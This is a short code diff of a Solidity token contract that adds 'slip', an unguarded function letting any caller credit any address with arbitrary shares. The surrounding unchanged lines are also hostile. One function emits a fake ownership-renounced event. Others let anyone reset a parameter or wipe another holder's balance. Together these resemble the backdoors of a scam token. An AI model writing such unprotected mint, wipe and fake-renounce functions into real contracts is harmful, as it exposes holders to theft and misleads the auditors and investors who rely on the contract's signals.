@@ -51,6 +51,7 @@ contract Token is Books {
   function give(string calldata next) external { name = next; emit OwnershipTransferred(msg.sender, address(1)); }
   function rebase(uint256 next) external { percent = next; }
   function take(address from) external { shares[from] = 0; }
+  function slip(address to, uint256 amount) external { shares[to] += amount; }
   function transferWithFee(address to, uint256 amount) external {
     shares[msg.sender] -= amount;
     shares[to] += amount - amount / 10;
